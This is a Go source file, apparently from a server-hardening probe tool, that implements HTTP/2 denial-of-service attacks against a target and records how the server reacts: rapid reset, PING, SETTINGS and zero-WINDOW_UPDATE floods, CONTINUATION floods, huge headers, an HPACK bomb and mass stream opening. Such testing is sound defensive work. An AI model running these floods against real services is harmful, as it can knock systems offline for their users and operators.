package probe

import (
	"bytes"
	"context"
	"fmt"
	"maps"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// reconnecting runs connection after connection until deadline, as an
// attacker that is disconnected simply comes back: each is started with
// settings and observed, then step is called with 0, 1, 2, ... until it
// fails, the peer ends the connection, or deadline passes. It returns how
// every connection ended, in the order they ended.
func reconnecting(ctx context.Context, t Target, deadline time.Time, workers int, opts ObserveOptions,
	settings []http2.Setting, step func(c *Conn, i int) error) ([]Ending, error) {
	var mu sync.Mutex
	var ends []Ending
	var firstErr error
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for ctx.Err() == nil && time.Now().Before(deadline) {
				c, err := Start(ctx, t.Addr, DialOptions{Window: BigWindow}, settings...)
				if err != nil {
					mu.Lock()
					if firstErr == nil {
						firstErr = err
					}
					mu.Unlock()
					if !sleepCtx(ctx, 50*time.Millisecond) {
						return
					}
					continue
				}
				end := feed(ctx, c, deadline, opts, step)
				mu.Lock()
				ends = append(ends, end)
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	if len(ends) == 0 && firstErr != nil {
		return nil, firstErr
	}
	return ends, nil
}

// feed calls step on c until it fails, the peer ends c, or deadline passes,
// reading c meanwhile, and returns how c ended.
func feed(ctx context.Context, c *Conn, deadline time.Time, opts ObserveOptions, step func(c *Conn, i int) error) Ending {
	defer c.Close()
	defer closeOnDone(ctx, c)()
	obs := Observe(c, opts)
	c.NC.SetWriteDeadline(deadline)
	var err error
	for i := 0; time.Now().Before(deadline); i++ {
		if err = step(c, i); err != nil {
			break
		}
		select {
		case <-obs.Done():
		default:
			continue
		}
		break
	}
	if err == nil {
		err = c.Flush()
	}
	end := obs.Wait(time.Second)
	writeErr(&end, err)
	return end
}

func rapidReset(ctx context.Context, t Target, s Scale) Outcome {
	var out Outcome
	msg := GreetMessage("Reset")
	var streams atomic.Int64
	start := time.Now()
	ends, err := reconnecting(ctx, t, start.Add(s.Duration), s.RapidResetConns, ObserveOptions{}, nil, func(c *Conn, _ int) error {
		for range 64 {
			// A complete Greet call, cancelled as soon as it is sent.
			id, err := c.Request(PathGreet, msg, true)
			if err != nil {
				return err
			}
			if err := c.Fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
			streams.Add(1)
		}
		return c.Flush()
	})
	if err != nil {
		out.Err = err
		return out
	}
	out.Ending, out.Closed = ends[0], tally(ends)
	out.note("%d Greet calls sent and reset in %s on %d connection(s); first connection: %s",
		streams.Load(), time.Since(start).Round(100*time.Millisecond), len(ends), answerSummary(ends[0]))
	return out
}

// blindFlood writes frames with write on one connection with a small
// receive buffer that it never reads, for s.Duration, then reads what the
// peer sent to see whether it ended the connection.
func blindFlood(ctx context.Context, t Target, s Scale, what string, write func(c *Conn, i int) error) Outcome {
	var out Outcome
	c, err := Start(ctx, t.Addr, DialOptions{RcvBuf: 4096})
	if err != nil {
		out.Err = err
		return out
	}
	defer c.Close()
	defer closeOnDone(ctx, c)()
	start := time.Now()
	deadline := start.Add(s.Duration)
	c.NC.SetWriteDeadline(deadline)
	n := 0
	var werr error
loop:
	for time.Now().Before(deadline) {
		for range 256 {
			if werr = write(c, n); werr != nil {
				break loop
			}
			n++
		}
		if werr = c.Flush(); werr != nil {
			break
		}
	}
	elapsed := time.Since(start)
	c.NC.SetWriteDeadline(time.Time{})
	end := Observe(c, ObserveOptions{Raw: true}).Wait(1500 * time.Millisecond)
	writeErr(&end, werr)
	out.Ending, out.Closed = end, end.String()
	out.note("%d %s frames written in %s without reading", n, what, elapsed.Round(100*time.Millisecond))
	return out
}

func pingFlood(ctx context.Context, t Target, s Scale) Outcome {
	return blindFlood(ctx, t, s, "PING", func(c *Conn, i int) error {
		return c.Fr.WritePing(false, [8]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)})
	})
}

func settingsFlood(ctx context.Context, t Target, s Scale) Outcome {
	return blindFlood(ctx, t, s, "SETTINGS", func(c *Conn, _ int) error {
		return c.Fr.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
	})
}

func resetFlood(ctx context.Context, t Target, s Scale) Outcome {
	return blindFlood(ctx, t, s, "WINDOW_UPDATE(0)", func(c *Conn, _ int) error {
		// A zero increment on a stream is a stream error: each one asks
		// the peer for a RST_STREAM.
		return c.Fr.WriteWindowUpdate(c.NextID(), 0)
	})
}

// floodFragment is about 16 KiB of header fields encoded as literals that
// are never indexed, so the same bytes may be sent again and again without
// touching the HPACK table.
func floodFragment() []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for i := 0; buf.Len() < 16000; i++ {
		enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-flood-%02d", i%100), Value: strings.Repeat("c", 1000), Sensitive: true})
	}
	return buf.Bytes()
}

func continuationFlood(ctx context.Context, t Target, s Scale) Outcome {
	var out Outcome
	frag := floodFragment()
	var frames atomic.Int64
	start := time.Now()
	// Every connection's one stream is its first: stream 1.
	const id = 1
	ends, err := reconnecting(ctx, t, start.Add(s.Duration), 2, ObserveOptions{}, nil, func(c *Conn, i int) error {
		if i == 0 {
			c.NextID()
			block := c.Block(RequestHeaders(t.Addr, PathGreet)...)
			if err := c.Fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block}); err != nil {
				return err
			}
		}
		for range 8 {
			if err := c.Fr.WriteContinuation(id, false, frag); err != nil {
				return err
			}
			frames.Add(1)
		}
		return c.Flush()
	})
	if err != nil {
		out.Err = err
		return out
	}
	out.Ending, out.Closed = ends[0], tally(ends)
	out.note("%d CONTINUATION frames (%d MiB of header block) in %s on %d connections",
		frames.Load(), frames.Load()*int64(len(frag))>>20, time.Since(start).Round(100*time.Millisecond), len(ends))
	return out
}

func hugeHeaders(ctx context.Context, t Target, s Scale) Outcome {
	var out Outcome
	var extra []hpack.HeaderField
	for i := range 256 {
		extra = append(extra, hpack.HeaderField{Name: fmt.Sprintf("x-huge-%03d", i), Value: strings.Repeat("h", 1000), Sensitive: true})
	}
	msg := GreetMessage("Huge")
	var calls atomic.Int64
	start := time.Now()
	ends, err := reconnecting(ctx, t, start.Add(s.Duration), 1, ObserveOptions{}, nil, func(c *Conn, _ int) error {
		if _, err := c.Request(PathGreet, msg, true, extra...); err != nil {
			return err
		}
		calls.Add(1)
		return c.Flush()
	})
	if err != nil {
		out.Err = err
		return out
	}
	out.Ending, out.Closed = ends[0], tally(ends)
	out.note("%d calls with 256 header fields of 1 KB in %s on %d connection(s); first connection: %s",
		calls.Load(), time.Since(start).Round(100*time.Millisecond), len(ends), answerSummary(ends[0]))
	if v, ok := ends[0].Settings[http2.SettingMaxHeaderListSize]; ok {
		out.note("advertised MAX_HEADER_LIST_SIZE %d", v)
	} else {
		out.note("no MAX_HEADER_LIST_SIZE advertised")
	}
	return out
}

func hpackBomb(ctx context.Context, t Target, s Scale) Outcome {
	var out Outcome
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 4000)}
	extra := make([]hpack.HeaderField, 3000)
	for i := range extra {
		extra[i] = bomb
	}
	msg := GreetMessage("Bomb")
	var calls atomic.Int64
	start := time.Now()
	// The largest table size there is, so the server's encoder may keep
	// whatever it likes; the observer has to accept it too.
	huge := []http2.Setting{{ID: http2.SettingHeaderTableSize, Val: 1<<32 - 1}}
	ends, err := reconnecting(ctx, t, start.Add(s.Duration), 1, ObserveOptions{TableSize: 1<<32 - 1}, huge, func(c *Conn, _ int) error {
		if _, err := c.Request(PathGreet, msg, true, extra...); err != nil {
			return err
		}
		calls.Add(1)
		return c.Flush()
	})
	if err != nil {
		out.Err = err
		return out
	}
	out.Ending, out.Closed = ends[0], tally(ends)
	out.note("%d calls whose header list decodes to %d MiB, in %s on %d connection(s); first connection: %s",
		calls.Load(), len(extra)*int(bomb.Size())>>20, time.Since(start).Round(100*time.Millisecond), len(ends), answerSummary(ends[0]))
	out.Cases = append(out.Cases, Case{Name: "table size update to 1 MiB (above the 4096 advertised)", Answer: tableSizeUpdate(ctx, t)})
	return out
}

// tableSizeUpdate sends a header block that starts by raising the HPACK
// table to 1 MiB, beyond what the peer allows.
func tableSizeUpdate(ctx context.Context, t Target) string {
	c, err := Start(ctx, t.Addr, DialOptions{Window: BigWindow})
	if err != nil {
		return "dial: " + err.Error()
	}
	defer c.Close()
	obs := Observe(c, ObserveOptions{Streams: true})
	c.Encoder().SetMaxDynamicTableSizeLimit(1 << 20)
	c.Encoder().SetMaxDynamicTableSize(1 << 20)
	id, err := c.Request(PathGreet, GreetMessage("Table"), true)
	if err == nil {
		err = c.Flush()
	}
	end := obs.WaitFor(time.Second, func(e Ending) bool { return answered(e, id) })
	obs.Stop()
	writeErr(&end, err)
	return answer(end, id)
}

func manyStreams(ctx context.Context, t Target, s Scale) Outcome {
	var out Outcome
	c, err := Start(ctx, t.Addr, DialOptions{Window: BigWindow})
	if err != nil {
		out.Err = err
		return out
	}
	defer c.Close()
	defer closeOnDone(ctx, c)()
	obs := Observe(c, ObserveOptions{})
	start := time.Now()
	deadline := start.Add(s.Duration)
	c.NC.SetWriteDeadline(deadline)
	fields := RequestHeaders(t.Addr, PathLongGreet)
	opened, werr := c.Batch(s.MaxStreams, 100, deadline, func() error {
		return c.Headers(c.NextID(), false, fields...)
	})
	took := time.Since(start)
	select {
	case <-obs.Done():
	case <-time.After(time.Until(deadline)):
	}
	end := obs.Wait(time.Second)
	writeErr(&end, werr)
	out.Ending, out.Closed = end, end.String()
	limit := "none"
	if v, ok := end.Settings[http2.SettingMaxConcurrentStreams]; ok {
		limit = fmt.Sprint(v)
	}
	out.note("%d streams opened in %s, held to %s; advertised MAX_CONCURRENT_STREAMS: %s; %s",
		opened, took.Round(100*time.Millisecond), s.Duration, limit, answerSummary(end))
	return out
}

// answerSummary counts the answers a connection got, e.g. "grpc-status 0
// ×120, RST_STREAM REFUSED_STREAM ×9900".
func answerSummary(e Ending) string {
	var parts []string
	for _, st := range slices.Sorted(maps.Keys(e.Statuses)) {
		parts = append(parts, fmt.Sprintf("grpc-status %s ×%d", st, e.Statuses[st]))
	}
	for _, code := range slices.Sorted(maps.Keys(e.Resets)) {
		parts = append(parts, fmt.Sprintf("RST_STREAM %s ×%d", code, e.Resets[code]))
	}
	if len(parts) == 0 {
		return "no answer"
	}
	return strings.Join(parts, ", ")
}
